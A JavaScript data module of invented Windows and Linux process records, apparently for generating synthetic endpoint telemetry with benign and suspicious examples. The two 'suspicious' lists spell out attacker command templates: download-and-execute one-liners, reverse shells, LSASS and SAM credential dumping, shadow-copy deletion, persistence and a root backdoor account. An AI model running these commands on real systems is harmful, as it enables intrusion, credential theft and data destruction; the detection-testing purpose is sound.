/**
 * Programs that run on the invented hosts, the most frequent first. `args` likewise; their `{parts}` are filled in by the
 * generator.
 * @typedef {{ path: string, args: string[], signer?: string, originalName?: string, isSystem?: boolean }} Program
 */

const WINDOWS = 'Microsoft Windows';
const MICROSOFT = 'Microsoft Corporation';
const SYSTEM32 = 'C:\\Windows\\System32\\';

/** @type {readonly Program[]} */
export const WINDOWS_PROGRAMS = [
  {
    path: `${SYSTEM32}svchost.exe`,
    args: ['-k netsvcs -p -s Schedule', '-k LocalService -p', '-k DcomLaunch -p', '-k wsappx -p -s {word}'],
    signer: WINDOWS,
    isSystem: true,
  },
  {
    path: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    args: [
      '--type=renderer --lang=en-US --renderer-client-id={n} --field-trial-handle={n}',
      '--type=utility --utility-sub-type=network.mojom.NetworkService',
      '--type=gpu-process',
    ],
    signer: 'Google LLC',
  },
  {
    path: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    args: [
      '--type=renderer --lang=en-US --renderer-client-id={n}',
      '--type=utility --mojo-platform-channel-handle={n}',
    ],
    signer: MICROSOFT,
  },
  { path: `${SYSTEM32}conhost.exe`, args: ['0xffffffff -ForceV1', '0x4'], signer: WINDOWS },
  { path: `${SYSTEM32}taskhostw.exe`, args: ['', '-RegisterDevice', 'KEYROAMING'], signer: WINDOWS },
  { path: `${SYSTEM32}RuntimeBroker.exe`, args: ['-Embedding'], signer: WINDOWS },
  {
    path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    args: ['', '/recycle'],
    signer: MICROSOFT,
    originalName: 'Outlook.exe',
  },
  {
    path: 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
    args: ['--type=renderer --enable-wer --ms-teams-less-cors={n}', '--processStart Teams.exe'],
    signer: MICROSOFT,
  },
  {
    path: 'C:\\Program Files\\Softhaus\\Agent\\agentd.exe',
    args: ['--service', '--check {word} --interval {n}'],
    signer: 'Softhaus GmbH',
    isSystem: true,
  },
  { path: 'C:\\Windows\\explorer.exe', args: ['', '/factory,{hex} -Embedding'], signer: WINDOWS },
  { path: `${SYSTEM32}backgroundTaskHost.exe`, args: ['-ServerName:App.{hex}.mca'], signer: WINDOWS },
  {
    path: `${SYSTEM32}SearchProtocolHost.exe`,
    args: ['Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n}'],
    signer: WINDOWS,
    isSystem: true,
  },
  { path: `${SYSTEM32}dllhost.exe`, args: ['/Processid:{hex}'], signer: WINDOWS },
  {
    path: `${SYSTEM32}cmd.exe`,
    args: ['/c echo {word}', '/c "C:\\Scripts\\{word}.cmd" {n}', '/d /c dir /b C:\\Users\\{user}\\Documents'],
    signer: WINDOWS,
    originalName: 'Cmd.Exe',
  },
  {
    path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    args: [
      '-File C:\\Scripts\\{word}.ps1 -Count {n}',
      '-NoLogo -Command Get-Date',
      '-ExecutionPolicy RemoteSigned -File C:\\ProgramData\\Softhaus\\inventory.ps1',
    ],
    signer: WINDOWS,
    originalName: 'PowerShell.EXE',
  },
  { path: `${SYSTEM32}wbem\\WmiPrvSE.exe`, args: ['-secured -Embedding'], signer: WINDOWS, isSystem: true },
  {
    path: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MsMpEng.exe',
    args: [''],
    signer: WINDOWS,
    isSystem: true,
  },
  { path: `${SYSTEM32}services.exe`, args: [''], signer: WINDOWS, isSystem: true },
  { path: `${SYSTEM32}lsass.exe`, args: [''], signer: WINDOWS, isSystem: true },
  {
    path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    args: ['/n "C:\\Users\\{user}\\Documents\\{word}.docx" /o', ''],
    signer: MICROSOFT,
    originalName: 'WinWord.exe',
  },
  {
    path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
    args: ['C:\\Users\\{user}\\Documents\\{word}.xlsx'],
    signer: MICROSOFT,
    originalName: 'Excel.exe',
  },
  {
    path: 'C:\\Program Files\\Git\\cmd\\git.exe',
    args: ['status --porcelain -b -u', 'fetch --all', 'rev-parse --show-toplevel'],
    signer: 'Johannes Schindelin',
  },
  {
    path: 'C:\\Program Files\\nodejs\\node.exe',
    args: ['C:\\Users\\{user}\\project\\server.js --port {n}'],
    signer: 'OpenJS Foundation',
  },
  {
    path: `${SYSTEM32}rundll32.exe`,
    args: ['C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {hex}', 'printui.dll,PrintUIEntry /ga'],
    signer: WINDOWS,
    originalName: 'RUNDLL32.EXE',
  },
  { path: `${SYSTEM32}sc.exe`, args: ['query {word}', 'start w32time task_started'], signer: WINDOWS },
  { path: `${SYSTEM32}reg.exe`, args: ['query HKLM\\SOFTWARE\\Softhaus /v Version'], signer: WINDOWS },
  { path: `${SYSTEM32}schtasks.exe`, args: ['/query /tn {word}'], signer: WINDOWS },
  { path: `${SYSTEM32}ipconfig.exe`, args: ['/all', '/flushdns'], signer: WINDOWS },
  { path: `${SYSTEM32}msiexec.exe`, args: ['/V', '/i C:\\Users\\{user}\\Downloads\\{word}.msi'], signer: WINDOWS },
  { path: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\{hex}\\setup.exe', args: ['/quiet', '/norestart'] },
];

/** @type {readonly Program[]} */
export const LINUX_PROGRAMS = [
  { path: '/usr/bin/dash', args: ['-c /usr/lib/checks/{word}', '/etc/cron.hourly/{word}', '-e /usr/bin/which {word}'] },
  { path: '/usr/bin/bash', args: ['-c date +%s', '/srv/app/run.sh {n}', '-l'] },
  { path: '/usr/bin/grep', args: ['-q {word} /etc/{word}.conf', '-c processor /proc/cpuinfo', '-E ^{word}'] },
  { path: '/usr/bin/sed', args: ['-n s/{word}/{hex}/p', '-e s/[[:space:]]//g'] },
  { path: '/usr/sbin/nginx', args: ['-g daemon on;', '-t'], isSystem: true },
  { path: '/usr/bin/node', args: ['/srv/app/server.js --port {n}', '/srv/app/worker.js {hex}'] },
  { path: '/usr/lib/postgresql/15/bin/postgres', args: ['-D /var/lib/postgresql/15/main', 'autovacuum worker'] },
  { path: '/usr/bin/cat', args: ['/proc/loadavg', '/srv/app/{word}.json', '/proc/{n}/stat'] },
  { path: '/usr/bin/date', args: ['+%Y-%m-%d', '-u'] },
  { path: '/usr/bin/python3.11', args: ['/srv/app/{word}.py --id {n}', '-m pip list'] },
  { path: '/usr/bin/sleep', args: ['{n}', '5'] },
  { path: '/usr/sbin/sshd', args: ['-D -R', '-D'], isSystem: true },
  { path: '/usr/bin/dpkg-query', args: ['--search {word}', '--list'] },
  { path: '/usr/sbin/cron', args: ['-f', '-f -P'], isSystem: true },
  { path: '/usr/bin/git', args: ['rev-parse HEAD', 'fetch origin {word}', 'gc --auto'] },
  { path: '/usr/bin/rm', args: ['-f /tmp/{hex}', '-rf /srv/app/cache/{word}'] },
  { path: '/usr/bin/find', args: ['/srv/app -name *.{word} -mtime +{n}', '/var/log -size +10M'] },
  { path: '/usr/bin/ps', args: ['aux', '-eo pid,comm'] },
  { path: '/usr/bin/systemctl', args: ['is-active {word}', 'status {word}.service', 'daemon-reload'], isSystem: true },
  { path: '/usr/bin/apt-get', args: ['-qq update', 'install -y {word}'], isSystem: true },
  { path: '/usr/bin/curl', args: ['-fsS http://127.0.0.1:{n}/health', '-sL https://{host}/{word}'] },
  { path: '/usr/bin/awk', args: ['{print} /proc/meminfo', '-F: {word}'] },
  { path: '/usr/bin/perl', args: ['-e print {n}', '/usr/share/{word}/{word}.pl'] },
  { path: '/usr/bin/sudo', args: ['-u postgres psql -c select {n}', '-n true'] },
  { path: '/usr/bin/uname', args: ['-r', '-a'] },
  { path: '/usr/bin/tar', args: ['-czf /var/backups/{word}-{hex}.tar.gz /srv/app'], isSystem: true },
  { path: '/usr/bin/gcc', args: ['-O2 -c {word}.c -o {word}.o'] },
  { path: '/usr/bin/chmod', args: ['0644 /srv/app/{word}', '+x /srv/app/bin/{word}'] },
  { path: '/usr/bin/docker', args: ['ps --format json', 'exec {hex} {word}'], isSystem: true },
  { path: '/opt/softhaus/agent/bin/agentd', args: ['--check {word}'], isSystem: true },
];

/** @type {readonly Program[]} */
export const SUSPICIOUS_WINDOWS = [
  {
    path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    args: [
      '-nop -w hidden -enc {b64}',
      '-ep bypass -c IEX(New-Object Net.WebClient).DownloadString("http://{address}/{word}.ps1")',
    ],
    signer: WINDOWS,
    originalName: 'PowerShell.EXE',
  },
  {
    path: `${SYSTEM32}cmd.exe`,
    args: [
      '/c whoami /all > C:\\Windows\\Temp\\{hex}.txt',
      '/c net user {word} {hex} /add',
      '/c vssadmin delete shadows /all /quiet',
    ],
    signer: WINDOWS,
    originalName: 'Cmd.Exe',
  },
  {
    path: `${SYSTEM32}certutil.exe`,
    args: [
      '-urlcache -split -f http://{address}/{word}.exe C:\\Users\\Public\\{hex}.exe',
      '-decode {hex}.b64 {hex}.exe',
    ],
    signer: WINDOWS,
    originalName: 'CertUtil.exe',
  },
  {
    path: `${SYSTEM32}rundll32.exe`,
    args: [
      'C:\\Windows\\System32\\comsvcs.dll MiniDump {n} C:\\Windows\\Temp\\{hex}.dmp full',
      'javascript:"\\..\\mshtml,RunHTMLApplication"',
    ],
    signer: WINDOWS,
    originalName: 'RUNDLL32.EXE',
  },
  {
    path: `${SYSTEM32}wbem\\WMIC.exe`,
    args: ['/node:{host} process call create "cmd /c {word}"', 'shadowcopy delete'],
    signer: WINDOWS,
    originalName: 'wmic.exe',
  },
  {
    path: `${SYSTEM32}reg.exe`,
    args: [
      'save HKLM\\SAM C:\\Users\\Public\\{hex}.hiv',
      'add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {word} /d C:\\Users\\Public\\{hex}.exe',
    ],
    signer: WINDOWS,
  },
  {
    path: `${SYSTEM32}regsvr32.exe`,
    args: ['/s /n /u /i:http://{address}/{word}.sct scrobj.dll'],
    signer: WINDOWS,
    originalName: 'REGSVR32.EXE',
  },
  {
    path: `${SYSTEM32}mshta.exe`,
    args: ['http://{address}/{word}.hta', 'vbscript:Execute("{word}")'],
    signer: WINDOWS,
    originalName: 'MSHTA.EXE',
  },
  {
    path: `${SYSTEM32}schtasks.exe`,
    args: ['/create /tn {word} /tr C:\\Users\\Public\\{hex}.exe /sc minute /mo 5 /ru SYSTEM'],
    signer: WINDOWS,
  },
  { path: `${SYSTEM32}bcdedit.exe`, args: ['/set {word} recoveryenabled No'], signer: WINDOWS },
];

/** @type {readonly Program[]} */
export const SUSPICIOUS_LINUX = [
  {
    path: '/usr/bin/bash',
    args: [
      '-i >& /dev/tcp/{address}/{n} 0>&1',
      '-c curl -s http://{address}/{word}.sh|bash',
      '-c echo {b64}|base64 -d|sh',
    ],
  },
  { path: '/usr/bin/nc', args: ['-e /bin/sh {address} {n}', '-lvnp {n}'] },
  { path: '/usr/bin/wget', args: ['-q http://{address}/{word} -O /tmp/.{hex}'] },
  { path: '/usr/bin/chmod', args: ['+x /tmp/.{hex}', '777 /dev/shm/{word}', 'u+s /usr/bin/{word}'] },
  { path: '/tmp/.{hex}/kworker', args: ['-o stratum+tcp://{host}:{n}'] },
  { path: '/usr/bin/python3', args: ['-c import pty;pty.spawn("/bin/bash")'] },
  { path: '/usr/bin/crontab', args: ['-l', '/tmp/{hex}'] },
  { path: '/usr/bin/base64', args: ['-d /tmp/{hex}'] },
  { path: '/usr/sbin/useradd', args: ['-o -u 0 -g 0 -M -d /root -s /bin/bash {word}'] },
  { path: '/usr/bin/chattr', args: ['+i /etc/ld.so.preload'] },
];
